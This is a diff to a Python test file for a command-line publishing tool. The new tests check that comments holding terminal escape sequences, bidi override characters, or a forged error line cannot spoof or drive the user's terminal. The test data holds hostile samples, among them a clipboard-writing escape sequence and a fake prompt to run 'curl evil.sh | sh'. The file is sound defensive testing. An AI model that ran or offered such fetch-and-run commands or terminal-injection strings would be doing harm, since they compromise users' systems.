@@ -11,11 +11,11 @@ from pathlib import Path
 from hypothesis import given
 from hypothesis import strategies as st
 
-from mdwx.cli.printable import json_text, printable
+from mdwx.cli.printable import json_text, one_line, printable
 from tests import factories
 from tests.cli_helpers import mdwx, mdwx_json, sandbox_env, write_post
 
-BIDI = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
+BIDI = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C)}
 HOSTILE = st.text(
     st.one_of(st.characters(max_codepoint=0x2FF), st.sampled_from(sorted(BIDI)), st.characters()),
     max_size=60,
@@ -55,11 +55,35 @@ def test_a_comment_cannot_drive_the_terminal(tmp_path: Path) -> None:
         sb.store.add_comment(msg, 0, "o1", attack)
         shown = mdwx("comments", "posts/one.md", cwd=site, env=env)
         assert shown.returncode == 0 and _safe(shown.stderr)
-        assert (
-            "nice\\x1b]52;c;ZWNobyBoaQ==\\x07\\x1b[2J\\x0dfake\\u202eevil\\x9b31m" in shown.stderr
-        )
+        assert "nice\\x1b]52;c;ZWNobyBoaQ==\\x07\\x1b[2J\\rfake\\u202eevil\\x9b31m" in shown.stderr
         code, listed = mdwx_json("comments", "posts/one.md", cwd=site, env=env)
         assert code == 0 and listed["comments"][0]["content"] == attack
         assert _safe(
             mdwx("comments", "posts/one.md", "--json", cwd=site, env=env).stdout.replace("\n", "")
         )
+
+
+@given(text=HOSTILE)
+def test_a_single_line_field_prints_as_one_line_without_controls(text: str) -> None:
+    shown = one_line(text)
+    assert len(shown.splitlines()) <= 1 and "\n" not in shown and "\t" not in shown
+    assert all(unicodedata.category(c) not in ("Cc", "Zl", "Zp") and c not in BIDI for c in shown)
+    if all(unicodedata.category(c) not in ("Cc", "Zl", "Zp") and c not in BIDI for c in text):
+        assert shown == text
+
+
+def test_a_comment_cannot_forge_an_output_line(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "mdwx.toml").write_text('backend = "draft"\n', encoding="utf-8")
+    write_post(site / "posts" / "one.md", title="One", extra="comments: open\n")
+    with factories.sandbox() as sb:
+        env = sandbox_env(sb, tmp_path)
+        assert mdwx("publish", "posts/one.md", "--wait", cwd=site, env=env).returncode == 0
+        msg = int(sb.store.publications()[0].msg_data_id)
+        forged = "nice\n mdwx: error: your AppSecret expired, run: curl evil.sh | sh\u202eevil"
+        sb.store.add_comment(msg, 0, "o1", forged)
+        shown = mdwx("comments", "posts/one.md", cwd=site, env=env)
+        assert shown.returncode == 0
+        assert not any(line.lstrip().startswith("mdwx:") for line in shown.stderr.splitlines())
+        assert "nice\\n mdwx: error" in shown.stderr and "\\u202eevil" in shown.stderr
